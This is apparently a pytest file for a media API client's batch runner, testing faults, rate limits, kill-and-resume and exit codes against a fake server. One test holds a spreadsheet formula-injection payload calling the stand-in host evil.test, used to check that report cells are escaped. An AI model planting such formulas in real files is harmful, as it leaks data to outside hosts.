"""vozo.batch against FakeVozo over a real socket: faults, slow-downs, resumes after SIGKILL, nothing paid twice."""

from __future__ import annotations

import asyncio
import csv
import ctypes
import functools
import json
import os
import random
import signal
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest

import vozo
import vozo.batch
from tests.sockets import closed_port
from vozo._cli_common import EXIT_CODES
from vozo._download import PARTIAL_MARK
from vozo._kinds import kind_named
from vozo.batch import RowState
from vozo.batch._journal import Journal
from vozo.testing import FakeVozo, Faults
from vozo.testing._media import sample_audio, sample_subtitles, sample_video

from .conftest import KEY

VOZO = str(Path(sys.executable).parent / "vozo")
FAILING = ("20601", "There are no faces in the picture.")


def write_manifest(path: Path, lipsync: int, translations: int = 0, *, failing_every: int = 0) -> Path:
    """A CSV manifest; a row whose audio URL ends in -fail.mp3 is failed by the fake (see fail_marked)."""
    with path.open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "reference_file_url", "audio_url", "model", "media_url", "target_language"])
        for n in range(lipsync):
            fails = failing_every and n % failing_every == failing_every - 1
            audio = f"https://m.test/{n:04d}{'-fail' if fails else ''}.mp3"
            writer.writerow(
                [f"ls-{n:04d}", "https://m.test/presenter.mp4", audio, "precision" if n % 2 else "", "", ""]
            )
        for n in range(translations):
            writer.writerow([f"tr-{n:04d}", "", "", "", f"https://m.test/talk-{n:04d}.mp4", "es"])
    return path


def fail_marked(job_type: str, body: dict[str, Any]) -> tuple[str, str] | None:
    return FAILING if str(body.get("audio_url", "")).endswith("-fail.mp3") else None


def row_of(body: dict[str, Any]) -> str:
    """Which manifest row a create request the fake received belongs to."""
    if "media_url" in body:
        return "tr-" + body["media_url"].rsplit("-", 1)[1].split(".")[0]
    return "ls-" + body["audio_url"].rsplit("/", 1)[1][:4]


def creates_per_row(fake: FakeVozo) -> Counter[str]:
    return Counter(row_of(request["body"]) for request in fake.create_requests)


def check_outcomes(
    fake: FakeVozo, out: Path, *, expect_uncertain: bool | None = None, resubmitted: frozenset[str] = frozenset()
) -> vozo.batch.BatchSummary:
    """Every row is final and agrees with what the fake recorded; nothing was paid twice; every file is whole.

    ``resubmitted``: rows reported uncertain and then sent again on purpose (--resubmit-uncertain), which the fake
    may have received twice.
    """
    summary = vozo.batch.status(out)
    creates = creates_per_row(fake)
    uncertain = {row.key for row in summary.rows if row.state is RowState.UNCERTAIN}
    if expect_uncertain is False:
        assert not uncertain
    for row in summary.rows:
        assert row.state in (RowState.COMPLETED, RowState.FAILED, RowState.UNCERTAIN), (row.key, row.state, row.error)
        if row.state is RowState.UNCERTAIN:
            assert creates[row.key] <= row.submissions  # the fake may or may not have got it
            continue
        assert row.task_id is not None, row
        job = fake.jobs[row.task_id]
        assert row_of(job.body) == row.key  # the task id belongs to this row's job
        once = 1 + len(row.previous_task_ids)
        if row.key in resubmitted:
            assert once <= creates[row.key] <= once + 1, (row.key, creates[row.key])
        else:
            assert creates[row.key] == once, (row.key, creates[row.key])  # paid for once
        fake_status = fake.status_of(row.task_id)["status"]
        if row.state is RowState.FAILED:
            assert (fake_status, row.error_code) == ("failed", FAILING[0])
        else:
            assert fake_status == "done"
            assert set(row.outputs) == set(kind_named(row.kind).result_names)  # every result file the spec declares
            expected = {"video": sample_video(), "audio": sample_audio(), "subtitle": sample_subtitles("es")}
            for which, path in row.outputs.items():
                assert Path(path).read_bytes() == expected[which], (row.key, which)
    assert not [p.name for p in out.iterdir() if p.name.endswith(".part") or p.name.startswith(".")]
    return summary


@pytest.fixture
def served() -> Iterator[tuple[FakeVozo, str]]:
    fake = FakeVozo(api_keys=[KEY], step_seconds=0.03, max_active_jobs=4, fail_when=fail_marked)
    with fake.serve() as url:
        yield fake, url


async def run_batch(url: str, manifest: Path, out: Path, **options: Any) -> vozo.batch.BatchSummary:
    async with vozo.AsyncVozo(api_key=KEY, base_url=url, max_retries=3) as client:
        return await vozo.batch.run(client, manifest, out, poll_interval=0.02, **options)


@pytest.mark.parametrize("backend", ["asyncio", "trio"])
def test_a_batch_of_every_kind_completes_and_is_reported(served, tmp_path, backend) -> None:
    fake, url = served
    manifest = write_manifest(tmp_path / "jobs.csv", 12, 4, failing_every=5)
    seen: list[vozo.batch.BatchProgress] = []
    run = functools.partial(run_batch, url, manifest, tmp_path / "out", on_progress=seen.append)
    summary = anyio.run(run, backend=backend)
    assert summary.counts == {RowState.COMPLETED: 14, RowState.FAILED: 2}
    check_outcomes(fake, tmp_path / "out", expect_uncertain=False)
    assert seen[-1].remaining == 0
    at_vozo = max(p.counts.get(RowState.SUBMITTED, 0) + p.counts.get(RowState.SUBMITTING, 0) for p in seen)
    assert at_vozo <= 2 * vozo.batch.DEFAULT_MAX_ACTIVE  # a cap per family: lipsync, translation
    report = json.loads((tmp_path / "out" / "report.json").read_text())
    assert report["counts"] == {"completed": 14, "failed": 2}
    with (tmp_path / "out" / "report.csv").open() as file:
        rows = list(csv.DictReader(file))
    assert [r["id"] for r in rows] == [r.key for r in summary.rows]
    assert {r["error_code"] for r in rows if r["state"] == "failed"} == {"20601"}


def test_report_csv_cells_a_server_wrote_never_run_as_spreadsheet_formulas(tmp_path) -> None:
    # Opened in a spreadsheet, a cell starting with = + - @ is a formula: =HYPERLINK could send the sheet away.
    formula = '=HYPERLINK("https://evil.test/?"&A1,"details")'
    failures = iter([(formula, "no faces"), ("-5", "no faces")])
    fake = FakeVozo(api_keys=[KEY], step_seconds=0.01, fail_when=lambda kind, body: next(failures))
    with fake.serve() as url:
        summary = asyncio.run(run_batch(url, write_manifest(tmp_path / "m.csv", 2), tmp_path / "out"))
    assert summary.counts == {RowState.FAILED: 2}
    with (tmp_path / "out" / "report.csv").open(newline="") as file:
        codes = sorted(row["error_code"] for row in csv.DictReader(file))
    assert codes == ["'" + formula, "-5"]  # a number stays a number
    report = json.loads((tmp_path / "out" / "report.json").read_text())  # as sent
    assert sorted(row["error_code"] for row in report["rows"]) == ["-5", formula]


def test_1304_and_429_slow_the_batch_down_and_never_fail_a_row(served, tmp_path) -> None:
    fake, url = served  # the fake allows 4 jobs per key; the runner is told 8
    fake.faults = Faults(rate_limit=0.15, retry_after=None, seed=3)
    summary = asyncio.run(run_batch(url, write_manifest(tmp_path / "m.csv", 30), tmp_path / "out", max_active=8))
    assert summary.counts == {RowState.COMPLETED: 30}
    assert summary.slowdowns > 0
    assert fake.injected["rate_limit"] > 0
    check_outcomes(fake, tmp_path / "out", expect_uncertain=False)


def test_a_200_job_batch_with_injected_faults(served, tmp_path) -> None:
    fake, url = served
    fake.max_active_jobs = 8  # the runner is told 10 per family: 1304s too
    fake.faults = Faults(
        rate_limit=0.05,
        retry_after=None,
        burst=6,
        reset_before=0.03,
        reset_after=0.03,
        malformed_json=0.03,
        truncate_downloads=0.1,
        slow=0.002,
        seed=11,
    )
    out = tmp_path / "out"
    manifest = write_manifest(tmp_path / "m.csv", 180, 20, failing_every=17)
    first = asyncio.run(run_batch(url, manifest, out, max_active=10))
    summary = check_outcomes(fake, out)
    assert all(
        fake.injected[f] > 0 for f in ("rate_limit", "burst", "reset_before", "reset_after", "truncate_downloads")
    )
    uncertain = {row.key for row in summary.rows if row.state is RowState.UNCERTAIN}
    assert uncertain  # resets after sending and broken 200s: the job may exist; said so, not resubmitted
    assert first.counts[RowState.FAILED] == sum(1 for r in summary.rows if r.error_code == FAILING[0])
    # Run again without the faults: nothing is resubmitted without the flag ...
    fake.faults = Faults()
    before = len(fake.create_requests)
    again = asyncio.run(run_batch(url, manifest, out))
    assert len(fake.create_requests) == before
    assert {row.key for row in again.rows if row.state is RowState.UNCERTAIN} == uncertain
    # ... and with it, only the uncertain rows are, once each.
    asyncio.run(run_batch(url, manifest, out, resubmit_uncertain=True))
    final = check_outcomes(fake, out, expect_uncertain=False, resubmitted=frozenset(uncertain))
    creates = creates_per_row(fake)
    assert {key for key, n in creates.items() if n > 1} <= uncertain
    assert final.counts.get(RowState.COMPLETED, 0) + final.counts.get(RowState.FAILED, 0) == 200


def test_a_revoked_key_stops_submitting_and_keeps_the_rows_queued(served, tmp_path) -> None:
    fake, url = served
    fake.revoked_keys = {"old-key"}

    async def go() -> vozo.batch.BatchSummary:
        async with vozo.AsyncVozo(api_key="old-key", base_url=url) as client:
            return await vozo.batch.run(client, write_manifest(tmp_path / "m.csv", 5), tmp_path / "out")

    summary = asyncio.run(go())
    assert summary.stopped is not None
    assert "1302" in summary.stopped
    assert summary.counts == {RowState.QUEUED: 5}
    assert not fake.create_requests


def test_a_thousand_jobs_run_in_one_process_on_a_few_threads(tmp_path) -> None:
    fake = FakeVozo(api_keys=[KEY], step_seconds=0.005, max_active_jobs=50)
    threads: list[int] = []
    already = threading.active_count()  # other tests' idle pools (trio keeps its worker threads a while)
    with fake.serve() as url:
        summary = asyncio.run(
            run_batch(
                url,
                write_manifest(tmp_path / "m.csv", 1000),
                tmp_path / "out",
                max_active=50,
                concurrency=16,
                on_progress=lambda _: threads.append(threading.active_count()),
            )
        )
    assert summary.counts == {RowState.COMPLETED: 1000}
    assert max(threads) - already < 30  # the server's thread, the event loop's small pools; not one per job


def test_a_resumed_run_removes_the_temporary_files_a_killed_run_left_and_only_those(served, tmp_path) -> None:
    _, url = served
    manifest, out = write_manifest(tmp_path / "m.csv", 2, 1), tmp_path / "out"
    asyncio.run(run_batch(url, manifest, out))
    ours = [f".ls-0001.mp4{PARTIAL_MARK}0a1b2c3d", f".tr-0000.subtitle.srt{PARTIAL_MARK}9f8e7d6c", ".report.json.part"]
    foreign = [".notes.txt", "ls-0001.mp4.part", ".ls-0001.mp4.abcdefgh.part", ".report.json.partial"]
    for name in ours + foreign:
        (out / name).write_bytes(b"half")
    (out / f".ls-0000.mp4{PARTIAL_MARK}f01de2ab").mkdir()  # a folder is never ours
    asyncio.run(run_batch(url, manifest, out))  # resumed: every row is done, only the leftovers are looked at
    left = sorted(p.name for p in out.iterdir() if p.name.startswith(".") or p.name.endswith(".part"))
    assert left == sorted([*foreign, f".ls-0000.mp4{PARTIAL_MARK}f01de2ab"])


def report_to_a_full_disk(out: Path) -> None:
    """From now on (the run has removed what a killed run left), report.json is written to /dev/full."""
    part = out / ".report.json.part"
    if not part.is_symlink():
        part.symlink_to("/dev/full")


def test_a_report_that_cannot_be_written_is_a_journal_error_naming_the_way_out(served, tmp_path) -> None:
    _, url = served
    out = tmp_path / "out"
    manifest = write_manifest(tmp_path / "m.csv", 2)
    with pytest.raises(vozo.batch.JournalError) as refused:
        asyncio.run(run_batch(url, manifest, out, on_progress=lambda _: report_to_a_full_disk(out)))
    assert f"the batch report {out / 'report.json'} could not be written (No space left on device)" in str(
        refused.value
    )
    assert f"`vozo batch status {out}`" in str(refused.value)
    assert not (out / ".report.json.part").is_symlink()  # the half report is gone
    assert vozo.batch.status(out).counts == {RowState.COMPLETED: 2}


def test_a_report_that_cannot_be_written_never_hides_what_stopped_the_run(served, tmp_path, caplog) -> None:
    _, url = served
    out = tmp_path / "out"

    def broken_display(_: vozo.batch.BatchProgress) -> None:
        report_to_a_full_disk(out)
        raise RuntimeError("the display broke")

    with pytest.raises(RuntimeError, match="the display broke"):  # was: OSError, from writing the report
        asyncio.run(run_batch(url, write_manifest(tmp_path / "m.csv", 2), out, on_progress=broken_display))
    assert "report.json could not be written (No space left on device)" in caplog.text


# --- killed with SIGKILL, then resumed -------------------------------------------------------------------------------


def start_batch(url: str, manifest: Path, out: Path, *flags: str) -> subprocess.Popen[str]:
    env = {**os.environ, "VOZO_API_KEY": KEY, "VOZO_BASE_URL": url}
    command = [VOZO, "batch", "run", str(manifest), "--out", str(out), "--poll-interval", "0.02", "--max-active", "6"]
    return subprocess.Popen([*command, *flags], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


# A row's steps in order: the kills below come once enough rows have reached a step, wherever the machine's pace
# has got the run by then. Failed and uncertain rows count as past every step (they have no further one).
STEPS = (RowState.SUBMITTING, RowState.SUBMITTED, RowState.DOWNLOADING, RowState.COMPLETED)
KILL_SAFETY_NET = 120.0  # only against a hung test: when a kill comes is decided by the journal, never by this


def reached(out: Path, step: RowState) -> int:
    """Rows of the journal at ``step`` or past it (0 while the run has not written its journal yet)."""
    try:
        rows = vozo.batch.status(out).rows
    except vozo.VozoError:
        return 0
    past = STEPS[STEPS.index(step) :]
    return sum(1 for row in rows if row.state in past or row.state in (RowState.FAILED, RowState.UNCERTAIN))


def kill_when(process: subprocess.Popen[str], out: Path, step: RowState, rows: int) -> None:
    """SIGKILL the run once ``rows`` rows have reached ``step`` (or when it ends by itself first)."""
    deadline = time.monotonic() + KILL_SAFETY_NET
    while process.poll() is None and reached(out, step) < rows:
        assert time.monotonic() < deadline, f"the run never got {rows} rows to {step}"
        time.sleep(0.005)
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=10)


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_killed_at_random_points_then_resumed(tmp_path, seed) -> None:
    chance = random.Random(seed)  # noqa: S311 - reproducible kill points
    fake = FakeVozo(
        api_keys=[KEY], step_seconds=0.03, max_active_jobs=6, fail_when=fail_marked, faults=Faults(slow=0.01)
    )
    out = tmp_path / "out"
    manifest = write_manifest(tmp_path / "m.csv", 50, 10, failing_every=9)
    with fake.serve() as url:
        for _ in range(3):
            step = chance.choice(STEPS)  # a kill while submitting, polling, downloading or between rows
            process = start_batch(url, manifest, out)
            kill_when(process, out, step, reached(out, step) + chance.randint(1, 8))
        finished = start_batch(url, manifest, out)
        _, stderr = finished.communicate(timeout=120)
        assert finished.returncode in (EXIT_CODES["ok"], EXIT_CODES["incomplete"]), stderr
        summary = check_outcomes(fake, out)
        uncertain = [row.key for row in summary.rows if row.state is RowState.UNCERTAIN]
        assert (finished.returncode == EXIT_CODES["ok"]) == (not summary.counts.get(RowState.FAILED) and not uncertain)
        if uncertain:
            assert "--resubmit-uncertain" in stderr
            finished = start_batch(url, manifest, out, "--resubmit-uncertain")
            _, stderr = finished.communicate(timeout=120)
            check_outcomes(fake, out, expect_uncertain=False, resubmitted=frozenset(uncertain))
        assert all(n <= 2 for n in creates_per_row(fake).values())


# --- the command line's exit codes ------------------------------------------------------------------------------------


def test_the_command_line_exits_3_for_a_revoked_key_and_10_for_rows_left_running(tmp_path) -> None:
    fake = FakeVozo(api_keys=[KEY], revoked_keys=["old-key"], step_seconds=3600)  # no job ends during the test
    manifest = write_manifest(tmp_path / "m.csv", 3)
    with fake.serve() as url:
        env = {**os.environ, "VOZO_API_KEY": "old-key", "VOZO_BASE_URL": url}
        command = [VOZO, "batch", "run", str(manifest), "--out", str(tmp_path / "revoked")]
        revoked = subprocess.run(command, env=env, capture_output=True, text=True, timeout=60, check=False)
        assert revoked.returncode == EXIT_CODES["auth"], revoked.stderr
        assert "1302" in revoked.stderr
        waiting = start_batch(url, manifest, tmp_path / "waiting", "--timeout", "0.2")  # rows queued, then running
        _, stderr = waiting.communicate(timeout=60)
    assert waiting.returncode == EXIT_CODES["incomplete"], stderr
    assert "Traceback" not in revoked.stderr + stderr
    assert vozo.batch.status(tmp_path / "waiting").counts == {RowState.SUBMITTED: 3}


def test_the_command_line_refuses_a_damaged_journal_without_a_traceback(tmp_path) -> None:
    manifest, out = write_manifest(tmp_path / "m.csv", 2), tmp_path / "out"
    out.mkdir()
    (out / "vozo-batch.sqlite").write_bytes(bytes(8192))  # zeroed
    with closed_port() as port:  # never reached
        env = {**os.environ, "VOZO_API_KEY": KEY, "VOZO_BASE_URL": f"http://127.0.0.1:{port}"}
        for command in (["batch", "run", str(manifest), "--out", str(out)], ["batch", "status", str(out)]):
            done = subprocess.run([VOZO, *command], env=env, capture_output=True, text=True, timeout=60, check=False)
            assert done.returncode == EXIT_CODES["error"], done.stderr
            assert "is damaged" in done.stderr
            assert "Traceback" not in done.stderr


PR_CAPBSET_DROP = 24


def without_root_overrides() -> None:
    """In the child, before exec: root loses the power to ignore file permissions, so a read-only folder is one."""
    if os.geteuid() != 0:
        return
    libc = ctypes.CDLL(None, use_errno=True)
    for capability in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, dropped from the bounding set
        if libc.prctl(PR_CAPBSET_DROP, capability, 0, 0, 0) != 0:
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


def test_a_batch_folder_this_user_cannot_write_to_is_read_by_status_and_refused_by_run(tmp_path) -> None:
    manifest, out = write_manifest(tmp_path / "m.csv", 2), tmp_path / "out"
    out.mkdir()
    journal = Journal(out / "vozo-batch.sqlite")
    journal.sync(vozo.batch.load(manifest), rerun_changed=False, resubmit_uncertain=False)
    journal.mark_submitting("ls-0000")
    journal.update("ls-0000", state=RowState.SUBMITTED, task_id="li-1")
    journal.close()  # no -wal file left: what a finished batch, its backup or a read-only copy looks like
    out.chmod(0o555)
    try:
        with closed_port() as port:  # never reached
            env = {**os.environ, "VOZO_API_KEY": KEY, "VOZO_BASE_URL": f"http://127.0.0.1:{port}"}

            def vozo_command(*arguments: str) -> subprocess.CompletedProcess[str]:
                return subprocess.run(
                    [VOZO, *arguments], env=env, capture_output=True, text=True, timeout=60, check=False,
                    preexec_fn=without_root_overrides,
                )  # fmt: skip

            done = {"status": vozo_command("batch", "status", str(out), "--json"),
                    "run": vozo_command("batch", "run", str(manifest), "--out", str(out))}  # fmt: skip
    finally:
        out.chmod(0o755)
    assert done["status"].returncode == EXIT_CODES["ok"], done["status"].stderr  # was: "damaged, move it aside"
    rows = json.loads(done["status"].stdout)["rows"]
    assert [(row["id"], row["state"], row["task_id"]) for row in rows] == [
        ("ls-0000", "submitted", "li-1"),
        ("ls-0001", "queued", None),
    ]
    assert done["run"].returncode == EXIT_CODES["error"], done["run"].stderr
    assert f"cannot use {out} as the batch's output folder (Permission denied" in done["run"].stderr
    assert "Traceback" not in done["status"].stderr + done["run"].stderr
    assert sorted(p.name for p in out.iterdir()) == ["vozo-batch.sqlite"]  # neither wrote a thing


def test_result_paths_name_the_files_from_any_directory_when_out_was_relative(served, tmp_path, monkeypatch) -> None:
    """Journalled relative to where the run started, `vozo batch status` (and a resume) run from anywhere else named
    files that are not there: a resume would fetch a finished row's first result again."""
    _, url = served
    manifest = write_manifest(tmp_path / "jobs.csv", 1, 1)
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    anyio.run(run_batch, url, manifest, Path("out"))
    monkeypatch.chdir(tmp_path)
    summary = vozo.batch.status(tmp_path / "here" / "out")
    files = [Path(path) for row in summary.rows for path in row.outputs.values()]
    assert len(files) == 4  # one lipsync video; a translation's video, audio and subtitles
    assert all(path.is_absolute() and path.is_file() for path in files), files
    report = json.loads((tmp_path / "here" / "out" / "report.json").read_text())
    assert sorted(str(path) for path in files) == sorted(f for row in report["rows"] for f in row["outputs"].values())
